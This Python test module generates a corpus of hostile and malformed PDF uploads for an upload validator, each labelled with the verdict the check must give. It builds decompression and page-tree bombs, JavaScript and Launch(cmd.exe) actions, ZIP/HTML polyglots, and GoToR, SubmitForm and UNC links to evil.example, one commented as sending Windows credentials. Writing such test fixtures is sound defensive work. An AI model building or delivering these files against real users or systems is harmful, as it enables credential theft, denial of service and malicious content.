"""A generated corpus of hostile and odd uploads, built byte by byte (nothing binary is kept in
the repository): bombs of several shapes, active content, actions and annotations outside the
allowlist, polyglots (a ZIP or HTML in a comment, in a stream, between objects), encryption,
truncation, padding, sizes at and over the limit. Each entry names the verdict the upload
check must give.
"""

import io
import zipfile
import zlib
from dataclasses import dataclass
from functools import partial

import pikepdf

from testing.factories import pdf_bytes

PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
ONE_PAGE_TREE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def classic(objs: list[bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF with a plain cross-reference table; object 1 is the catalog."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for num, body in enumerate(objs, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (num, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    out.writelines(b"%010d 00000 n \n" % o for o in offsets)
    out.write(b"trailer\n<</Size %d/Root 1 0 R%s>>\n" % (len(objs) + 1, trailer))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def packed(objs: dict[int, bytes], *, size: int | None = None) -> bytes:
    """Every object inside one compressed object stream, with a compressed xref stream: the
    way a small file describes a huge structure. `size` overrides the xref's /Size."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    nums = sorted(objs)
    stm, xnum = nums[-1] + 1, nums[-1] + 2
    heads, body = [], io.BytesIO()
    entries = {}
    for idx, num in enumerate(nums):
        heads.append(b"%d %d" % (num, body.tell()))
        body.write(objs[num] + b"\n")
        entries[num] = (2, stm, idx)
    head = b" ".join(heads) + b"\n"
    data = zlib.compress(head + body.getvalue(), 9)
    entries[stm] = (1, out.tell(), 0)
    out.write(
        b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Length %d/Filter/FlateDecode>>\nstream\n"
        % (stm, len(nums), len(head), len(data))
    )
    out.write(data + b"\nendstream\nendobj\n")
    entries[xnum] = (1, out.tell(), 0)
    rows = bytearray(8 * (xnum + 1))
    for i, (kind, a, b) in entries.items():
        rows[8 * i : 8 * i + 8] = bytes((kind,)) + a.to_bytes(4, "big") + b.to_bytes(3, "big")
    data = zlib.compress(bytes(rows), 9)
    xref = out.tell()
    out.write(
        b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 3]/Root 1 0 R/Length %d/Filter/FlateDecode>>\n"
        % (xnum, size or xnum + 1, len(data))
    )
    out.write(b"stream\n" + data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def with_catalog(extra: bytes, *more: bytes) -> bytes:
    """One page; `extra` goes into the catalog, `more` become objects 4, 5, ..."""
    return classic([CATALOG[:-2] + extra + b">>", ONE_PAGE_TREE, PAGE, *more])


def with_page(extra: bytes, *more: bytes) -> bytes:
    """One page; `extra` goes into the page (its /Annots, /AA), `more` become objects 4, ..."""
    return classic([CATALOG, ONE_PAGE_TREE, PAGE[:-2] + extra + b">>", *more])


def annotated(annotation: bytes, *more: bytes) -> bytes:
    """One page with one annotation (object 4), `more` become objects 5, 6, ..."""
    return with_page(b"/Annots[4 0 R]", annotation, *more)


def evil_zip() -> bytes:
    """A real archive holding evil.html: what an archive tool shows for the polyglots."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.html", "<script>location='https://evil.example/'</script>")
    return out.getvalue()


def before_last_eof(data: bytes, inserted: bytes) -> bytes:
    at = data.rfind(b"%%EOF")
    return data[:at] + inserted + data[at:]


def zip_in_comment() -> bytes:
    """A comment just before the final %%EOF holding a ZIP: opens as an archive."""
    return before_last_eof(pdf_bytes(), b"%" + evil_zip() + b"\n")


def html_in_comment() -> bytes:
    return before_last_eof(pdf_bytes(), b"%<html><script>alert(document.cookie)</script>\n")


def zip_in_stream() -> bytes:
    """The archive as the data of an unreferenced stream, the file's last object."""
    data = evil_zip()
    return with_catalog(b"", b"<</Length %d>>\nstream\n%s\nendstream" % (len(data), data))


def between_objects() -> bytes:
    data = with_catalog(b"")
    at = data.find(b"2 0 obj")
    return data[:at] + b"<html><body onload=alert(1)>\n" + data[at:]


def text_field() -> bytes:
    """A fillable text field: a /Widget whose field is not a signature field."""
    widget = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/Rect[0 0 200 20]>>"
    catalog = CATALOG[:-2] + b"/AcroForm<</Fields[4 0 R]>>>>"
    return classic([catalog, ONE_PAGE_TREE, PAGE[:-2] + b"/Annots[4 0 R]>>", widget])


def gotor_in_object_stream() -> bytes:
    """The action compressed inside an object stream, found by the parse all the same."""
    catalog = CATALOG[:-2] + b"/OpenAction 4 0 R>>"
    gotor = b"<</S/GoToR/F%s/D[0/Fit]>>" % UNC
    return packed({1: catalog, 2: ONE_PAGE_TREE, 3: PAGE, 4: gotor})


def kids_repeated(n: int = 2_000_000) -> bytes:
    """~20 KB: a page tree whose Kids array names one page n times (parsers copy each)."""
    kids = b"[" + b"4 0 R " * n + b"]"
    tree = b"<</Type/Pages/Kids 3 0 R/Count %d>>" % n
    return packed({1: CATALOG, 2: tree, 3: kids, 4: PAGE})


def many_objects(n: int = 400_000) -> bytes:
    """~3 MB: hundreds of thousands of objects in an object stream."""
    objs = {1: CATALOG, 2: ONE_PAGE_TREE, 3: PAGE}
    objs.update(dict.fromkeys(range(4, 4 + n), b"<</A[1 2 3]>>"))
    return packed(objs)


def page_dag(levels: int = 24) -> bytes:
    """Each page-tree level names the next one twice: 2**levels leaves from 26 objects."""
    objs = [CATALOG]
    for level in range(levels):
        me = 2 + level
        parent = b"/Parent %d 0 R" % (me - 1) if level else b""
        objs.append(
            b"<</Type/Pages%s/Kids[%d 0 R %d 0 R]/Count %d>>"
            % (parent, me + 1, me + 1, 2 ** (levels - level))
        )
    objs.append(b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]>>" % (1 + levels))
    return classic(objs)


def deep_nesting(depth: int = 200_000) -> bytes:
    return with_catalog(b"/Deep " + b"[" * depth + b"]" * depth)


def huge_xref_size() -> bytes:
    """An xref stream claiming two billion objects."""
    return packed({1: CATALOG, 2: ONE_PAGE_TREE, 3: PAGE}, size=2_000_000_000)


def inflate_bomb(megabytes: int = 400) -> bytes:
    """A content stream that inflates to hundreds of MB (never inflated by the check)."""
    data = zlib.compress(b"\0" * (megabytes << 20), 9)
    stream = b"<</Length %d/Filter/FlateDecode>>\nstream\n%s\nendstream" % (len(data), data)
    page = PAGE[:-2] + b"/Contents 4 0 R>>"
    return classic([CATALOG, ONE_PAGE_TREE, page, stream])


def owner_password_only() -> bytes:
    """Opens without a password; printing and copying restricted by an owner password."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_bytes())) as pdf:
        allow = pikepdf.Permissions(extract=False, modify_other=False, print_highres=False)
        pdf.save(out, encryption=pikepdf.Encryption(owner="owner-secret", user="", allow=allow))
    return out.getvalue()


def sized(total: int) -> bytes:
    """A valid PDF of exactly `total` bytes (a comment stream pads it)."""
    base = with_catalog(b"", b"<</Length 0>>\nstream\n\nendstream")
    pad = total - len(base)
    body = b"x" * max(pad - len(str(pad)) + 1, 0)
    data = with_catalog(b"", b"<</Length %d>>\nstream\n%s\nendstream" % (len(body), body))
    while len(data) != total:  # the length's digits shift the size: settle in a few steps
        body = body[: len(body) + total - len(data)] if len(data) > total else body + b"x"
        data = with_catalog(b"", b"<</Length %d>>\nstream\n%s\nendstream" % (len(body), body))
    return data


UNC = rb"(\\\\evil.example\\share\\x.pdf)"  # opening it sends Windows credentials
LINK = b"<</Type/Annot/Subtype/Link/Rect[0 0 100 20]/A%s>>"
BINARY_COMMENT = b"%\x01\x02\x03\x04\n/Lang(zh)"
IMPORT_DATA_AA = b"/AA<</O<</S/ImportData/F(data.fdf)>>>>"
OPEN_ACTIONS = [  # name, the catalog's /OpenAction, verdict
    ("gotor-unc-openaction.pdf", b"<</S/GoToR/F%s/D[0/Fit]>>" % UNC, "remote_goto"),
    ("gotor-escaped-name.pdf", b"<</S/GoTo#52/F%s/D[0/Fit]>>" % UNC, "remote_goto"),
    ("named-print-in-next.pdf", b"<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/Print>>]>>", "action"),
]
ANNOTATIONS = [  # name, the page's one annotation, verdict
    ("submitform-link.pdf", LINK % b"<</S/SubmitForm/F(https://evil.example/)>>", "submit_form"),
    ("unc-uri-link.pdf", LINK % b"<</S/URI/URI(file://///evil.example/share/x)>>", "uri"),
    ("richmedia.pdf", b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 200 200]>>", "rich_media"),
    ("watermark.pdf", b"<</Type/Annot/Subtype/Watermark/Rect[0 0 200 200]>>", "annotation"),
]
ZIP = b"PK\x03\x04" + b"\x00" * 26 + b"evil.exe" + b"MZ" * 64 + b"PK\x05\x06" + b"\x00" * 18


@dataclass(frozen=True)
class Sample:
    name: str
    build: object  # () -> bytes
    verdict: str  # accepted | not_pdf | empty | encrypted | damaged | prefix | trailing | ...


def corpus() -> list[Sample]:
    good = pdf_bytes
    return [
        Sample("plain.pdf", good, "accepted"),
        Sample("three-pages.pdf", lambda: pdf_bytes(pages=3), "accepted"),
        Sample("owner-password-only.pdf", owner_password_only, "accepted"),
        Sample("nul-padding-under-1k.pdf", lambda: good() + b"\r\n" + b"\0" * 900, "accepted"),
        Sample("inflate-bomb-400mb.pdf", inflate_bomb, "accepted"),
        Sample("open-password.pdf", lambda: pdf_bytes(password="secret"), "encrypted"),
        Sample("empty.pdf", lambda: b"", "empty"),
        Sample("windows-exe.pdf", lambda: b"MZ\x90\x00" + b"\0" * 200, "not_pdf"),
        Sample("truncated.pdf", lambda: good()[: len(good()) // 2], "damaged"),
        Sample("garbage-after-header.pdf", lambda: b"%PDF-1.7\n" + b"\xff" * 300, "damaged"),
        Sample("html-before-header.pdf", lambda: b"<html><script>x</script>\n" + good(), "prefix"),
        Sample("zip-appended.pdf", lambda: good() + ZIP, "trailing"),
        Sample("text-after-eof.pdf", lambda: good() + b"<script>alert(1)</script>", "trailing"),
        Sample("padding-over-1k.pdf", lambda: good() + b" " * 1500, "trailing"),
        Sample(
            "javascript-openaction.pdf",
            lambda: with_catalog(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
            "javascript",
        ),
        Sample(
            "javascript-escaped-name.pdf",
            lambda: with_catalog(b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
            "javascript",
        ),
        Sample(
            "launch-action.pdf",
            lambda: with_catalog(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
            "launch",
        ),
        Sample(
            "embedded-file.pdf",
            lambda: with_catalog(
                b"/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>",
                b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
                b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream",
            ),
            "embedded_file",
        ),
        Sample(
            "xfa-form.pdf",
            lambda: with_catalog(b"/AcroForm<</Fields[]/XFA 4 0 R>>", b"(<xdp:xdp/>)"),
            "xfa",
        ),
        Sample("zip-in-comment-before-eof.pdf", zip_in_comment, "zip_inside"),
        Sample("html-in-comment-before-eof.pdf", html_in_comment, "comment"),
        Sample("zip-in-stream.pdf", zip_in_stream, "zip_inside"),
        Sample("html-between-objects.pdf", between_objects, "stray"),
        Sample("binary-comment-in-object.pdf", partial(with_catalog, BINARY_COMMENT), "comment"),
        *(Sample(n, partial(with_catalog, b"/OpenAction" + a), v) for n, a, v in OPEN_ACTIONS),
        *(Sample(n, partial(annotated, a), v) for n, a, v in ANNOTATIONS),
        Sample("importdata-page-aa.pdf", partial(with_page, IMPORT_DATA_AA), "import_data"),
        Sample("text-field-widget.pdf", text_field, "form_field"),
        Sample("gotor-in-object-stream.pdf", gotor_in_object_stream, "remote_goto"),
        Sample("bomb-kids-repeated.pdf", kids_repeated, "limit"),
        Sample("bomb-page-dag.pdf", page_dag, "damaged"),
        Sample("bomb-many-objects.pdf", many_objects, "limit"),
        Sample("bomb-deep-nesting.pdf", deep_nesting, "damaged"),
        Sample("bomb-huge-xref-size.pdf", huge_xref_size, "damaged"),
    ]
